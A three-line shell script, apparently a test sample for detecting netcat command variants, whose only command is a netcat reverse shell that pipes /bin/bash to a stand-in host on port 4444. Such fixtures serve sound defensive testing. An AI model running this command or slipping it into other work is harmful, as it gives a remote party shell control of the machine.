#!/bin/sh
# test sample: option before the address
nc -e /bin/bash 192.0.2.10 4444
